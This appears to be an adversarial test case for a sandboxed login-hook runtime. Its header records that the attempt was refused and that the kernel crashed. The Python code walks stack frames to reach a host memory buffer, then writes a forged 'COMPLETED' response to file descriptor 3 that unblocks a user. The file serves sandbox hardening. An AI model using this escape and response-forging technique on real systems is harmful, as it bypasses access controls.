# origin: own
# technique: a command that the facade refuses
# goal: outside
# outcome: refused:attribute-not-allowed | refused:import-not-allowed | refused:underscore-attribute
# kernel: CRASHED
import os
import sys
def frame(payload):
    return len(payload).to_bytes(4, "big") + payload

def answer(sequence, body):
    return frame(sequence.to_bytes(8, "big") + body)

def write(data):
    while data:
        data = data[os.write(3, data):]

def find_journal():
    back = sys._getframe()
    while back is not None:
        if "memory" in back.f_locals:
            return back.f_locals["memory"]
        back = back.f_back


def on_execute_post_login(event, api):
    memory = find_journal()
    sequence = int.from_bytes(memory[:8], sys.byteorder)
    write(answer(sequence, b"[" + b'{"outcome":"COMPLETED","duration_us":1,"error":null,"logs":[],"logs_truncated":false,"denial":null,"commands":[%s]}' % b'{"kind":"set_app_metadata","key":"blocked","value":false}' + b"]"))
    while True:
        pass
